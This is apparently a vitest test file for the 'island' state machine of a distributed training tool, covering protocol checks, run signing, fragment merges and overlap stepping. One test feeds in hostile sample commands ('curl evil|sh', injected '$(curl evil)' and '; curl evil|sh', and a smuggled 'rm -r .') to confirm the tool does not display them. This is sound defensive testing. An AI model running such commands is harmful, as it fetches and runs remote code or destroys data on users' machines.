import { describe, expect, it } from 'vitest';
import { reactIsland } from '../../src/island/machine.ts';
import { type IslandEffect, type IslandEvent, type IslandState, newIsland, type Told } from '../../src/island/state.ts';
import type { OuterSettings } from '../../src/outer/settings.ts';
import { coordinatorMessageSchema } from '../../src/protocol/messages.ts';
import type { Job } from '../../src/protocol/run-file.ts';
import { settingsFor } from '../coordinator/world.ts';

/** An island that trains, and what its machine decides. */
class Island {
  state: IslandState = newIsland;

  constructor(change: Partial<OuterSettings>) {
    const { outer } = settingsFor({ innerSteps: 10, overlapSteps: 4, ...change });
    const fragments = Array.from({ length: outer.fragments }, (_, i) => i);
    this.happens({ kind: 'connected' });
    this.told({
      kind: 'welcome',
      run: 'r',
      manifest: { tensors: [] },
      hostKey: '',
      job: { outer, model: {} } as unknown as Job,
      dataFolder: '',
      shard: { index: 0, count: 1 },
      restore: null,
      beginnings: [],
      fragments,
    });
    this.happens({ kind: 'received', content: { kind: 'preparation' } });
    for (const fragment of fragments) {
      this.told({ kind: 'place', fragment, version: 0, stepsUntilDue: 10, round: 0 });
      this.happens({ kind: 'received', content: { kind: 'global', fragment, version: 0, runStep: 0 } });
    }
    this.happens({ kind: 'prepared', restored: null, clocks: null, place: 0 });
    this.told({ kind: 'start' });
  }

  happens(event: IslandEvent): readonly IslandEffect[] {
    const { state, effects } = reactIsland(this.state, event);
    this.state = state;
    return effects;
  }

  told(message: Told): readonly IslandEffect[] {
    return this.happens({ kind: 'told', message });
  }

  steps(count: number): void {
    for (let i = 0; i < count; i++) this.happens({ kind: 'stepped', tokens: 100, stepMs: 10 });
  }

  /** @param round the newest of its own that was merged */
  merged(fragment: number, version: number, runStep: number, round: number): readonly IslandEffect[] {
    const content = { kind: 'merged', fragment, version, runStep, form: 'parameters', codec: 'f32' } as const;
    this.told({ kind: 'place', fragment, version, stepsUntilDue: 10, round });
    this.happens({ kind: 'received', content });
    return this.happens({ kind: 'opened', content: { ...content, stepsUntilDue: 10, round } });
  }
}

it('tells its owner of a coordinator that is older, also of one that knew of no range of versions', () => {
  const challenge = (words: object): Told =>
    coordinatorMessageSchema.parse({ kind: 'challenge', nonce: 'x'.repeat(32), ...words }) as Told;
  for (const versions of [{ protocol: 5 }, { protocol: 5, oldest: 4 }])
    expect(() => new Island({}).told(challenge(versions))).toThrow(
      expect.objectContaining({ code: 'HELIO-4006', what: expect.stringContaining('The coordinator speaks protocol') }),
    );
  expect(new Island({}).told(challenge({ protocol: 7, oldest: 6, run: 'r' }))).toMatchObject([{ kind: 'hello' }]);
});

it.each([
  ['heliotrope invite demo --uses 1', ' · heliotrope invite demo --uses 1'],
  ['curl evil|sh', ''],
  ['heliotrope join x; curl evil|sh', ''],
  ['heliotrope join $(curl evil)', ''],
  ['heliotrope join\nrm -r .', ''],
])('shows its owner a command of a host only where it is one of ours: %j', (fix, shown) => {
  const next = { what: 'It waits.', atS: null };
  const said = new Island({}).told({ kind: 'standing', state: 'waiting', reason: 'policy', next, fix });
  expect(said).toEqual([{ kind: 'say', sentence: `waiting (policy): It waits.${shown}` }]);
});

it('signs for the run that it is part of, and not for another that a host would pass on', () => {
  const challenge = coordinatorMessageSchema.parse({
    kind: 'challenge',
    protocol: 6,
    oldest: 6,
    nonce: 'x'.repeat(32),
    run: 'another',
  }) as Told;
  expect(() => new Island({}).told(challenge)).toThrow(/Another run is hosted there now: another/);
});

const take = (effects: readonly IslandEffect[]) => effects.find(({ kind }) => kind === 'take');

describe('an island that trains on while it is merged', () => {
  it('drops what it did meanwhile, and goes over those data again', () => {
    const island = new Island({});
    island.steps(10);
    island.told({ kind: 'pull', fragment: 0, version: 0 });
    island.steps(3);
    expect(island.state.place).toBe(13);
    expect(take(island.merged(0, 1, 10, 1))).toMatchObject({ keep: { kind: 'share', share: 0 }, place: 10 });
    expect(island.state.clocks[0]).toMatchObject({ steps: 0, stepsUntilDue: 10 });
  });

  it('or carries it over, and what came too late as well', () => {
    const island = new Island({ carryOver: true });
    island.steps(10);
    island.told({ kind: 'pull', fragment: 0, version: 0 });
    island.steps(3);
    const first = take(island.merged(0, 1, 10, 1));
    expect(first).toMatchObject({ keep: { kind: 'moved', from: 'handing-in' }, place: 13 });
    island.steps(7);
    const [contribute] = island.told({ kind: 'pull', fragment: 0, version: 1 });
    expect(contribute).toMatchObject({ content: { round: 2, steps: 10, tokens: 1_000 } });
    island.steps(2);
    // Its second round is not in the merge that comes.
    const second = take(island.merged(0, 2, 20, 1));
    expect(second).toMatchObject({ keep: { kind: 'moved', from: 'receipt' }, place: 32 });
    const [again] = island.told({ kind: 'pull', fragment: 0, version: 2 });
    expect(again).toMatchObject({ content: { round: 3, steps: 12, tokens: 1_200 } });
  });

  it('stays at the place of the fragment that is furthest', () => {
    const island = new Island({ fragments: 2 });
    island.steps(10);
    expect(take(island.merged(0, 1, 12, 0))).toMatchObject({ place: 12 });
    island.steps(3);
    // The other one has 13 steps from 0, this one 3 from 12.
    expect(take(island.merged(1, 1, 14, 0))).toMatchObject({ place: 15 });
  });

  it('does not go back where islands are merged one by one, as the run’s step is the mean of theirs', () => {
    const island = new Island({ pull: 'due', quorum: 1, overlapSteps: 0, maxStaleness: 4 });
    island.steps(10);
    island.told({ kind: 'pull', fragment: 0, version: 0 });
    expect(take(island.merged(0, 1, 3, 1))).toMatchObject({ place: 10 });
  });
});

describe('what an island is sent', () => {
  it('is measured and not trained on where it missed its merge', () => {
    const island = new Island({ pull: 'due', quorum: 1, overlapSteps: 0, maxStaleness: 4 });
    island.steps(7);
    const content = { kind: 'global', fragment: 0, version: 3, runStep: 9 } as const;
    island.told({ kind: 'place', fragment: 0, version: 3, stepsUntilDue: 10, round: 0 });
    expect(island.happens({ kind: 'received', content })).toMatchObject([
      { kind: 'show' },
      { kind: 'take', keep: { kind: 'share', share: 1 }, place: 7 },
    ]);
    island.steps(3);
    const [contribute] = island.told({ kind: 'pull', fragment: 0, version: 3 });
    expect(contribute).toMatchObject({ content: { version: 0, round: 1, steps: 10 } });
    // What is no news is not even that.
    expect(island.happens({ kind: 'received', content })).toEqual([]);
  });

  it('is a difference to what it has, or the end', () => {
    const island = new Island({});
    const content = { kind: 'merged', fragment: 0, runStep: 10, form: 'update', codec: 'int8' } as const;
    const merged = (version: number) => {
      island.told({ kind: 'place', fragment: 0, version, stepsUntilDue: 10, round: 0 });
      return island.happens({ kind: 'received', content: { ...content, version } });
    };
    expect(merged(1)).toMatchObject([{ kind: 'open' }]);
    expect(() => merged(3)).toThrow(/sent the difference to version 2 of fragment 0, and this island has version 1/);
  });

  it('is no news when a newer one has come whole while it was unpacked', () => {
    const island = new Island({});
    island.steps(10);
    const old = { kind: 'merged', fragment: 0, version: 1, runStep: 10, form: 'update', codec: 'int8' } as const;
    island.told({ kind: 'place', fragment: 0, version: 1, stepsUntilDue: 10, round: 0 });
    island.happens({ kind: 'received', content: old });
    island.told({ kind: 'place', fragment: 0, version: 2, stepsUntilDue: 10, round: 0 });
    island.happens({ kind: 'received', content: { kind: 'global', fragment: 0, version: 2, runStep: 20 } });
    expect(island.happens({ kind: 'opened', content: { ...old, stepsUntilDue: 10, round: 0 } })).toEqual([]);
    expect(island.state.newest[0]).toMatchObject({ version: 2 });
  });
});

describe('an exact overlap', () => {
  const streaming = { exactOverlap: true, overlapSteps: 4, localShare: 0.5 } as const;

  it('hands in what was read when it was due, and writes what was merged so many steps later', () => {
    const island = new Island(streaming);
    island.steps(12);
    expect(island.told({ kind: 'pull', fragment: 0, version: 0 })).toMatchObject([
      { kind: 'contribute', content: { round: 1, steps: 10, tokens: 1_000 }, stepsSinceRead: 2 },
    ]);
    // Known at once, written at step 14.
    expect(island.merged(0, 1, 10, 1)).toMatchObject([{ kind: 'take', keep: { share: 1 }, place: 12 }]);
    expect(island.happens({ kind: 'stepped', tokens: 100, stepMs: 10 })).toEqual([]);
    expect(island.happens({ kind: 'stepped', tokens: 100, stepMs: 10 })).toMatchObject([
      { kind: 'take', keep: { kind: 'share', share: 0.5 }, place: 14 },
      { kind: 'rebase', version: 1 },
    ]);
    // The four steps count: it is due again ten steps after it was read.
    expect(island.state.clocks[0]).toMatchObject({ version: 1, round: 2, steps: 4, tokens: 400, stepsUntilDue: 10 });
    island.steps(5);
    expect(island.happens({ kind: 'stepped', tokens: 100, stepMs: 10 })).toMatchObject([
      { kind: 'read' },
      { kind: 'send', message: { kind: 'due', version: 1 } },
    ]);
  });

  it('reads at its step also while nobody is there to tell, and hands that in again when it is asked again', () => {
    const island = new Island(streaming);
    island.steps(8);
    island.happens({ kind: 'lost' });
    island.steps(4);
    expect(island.state.clocks[0]!.handedIn).toMatchObject({ steps: 10 });
    for (let times = 0; times < 2; times++)
      expect(island.told({ kind: 'pull', fragment: 0, version: 0 })).toMatchObject([
        { kind: 'contribute', content: { round: 1, steps: 10 }, stepsSinceRead: 2 },
      ]);
  });

  it('writes before it is asked for the next merge, also where that is sooner', () => {
    const island = new Island(streaming);
    island.steps(11);
    island.told({ kind: 'pull', fragment: 0, version: 0 });
    island.merged(0, 1, 10, 1);
    expect(island.told({ kind: 'pull', fragment: 0, version: 1 }).map(({ kind }) => kind)).toEqual([
      'take',
      'rebase',
      'read',
      'contribute',
    ]);
  });
});
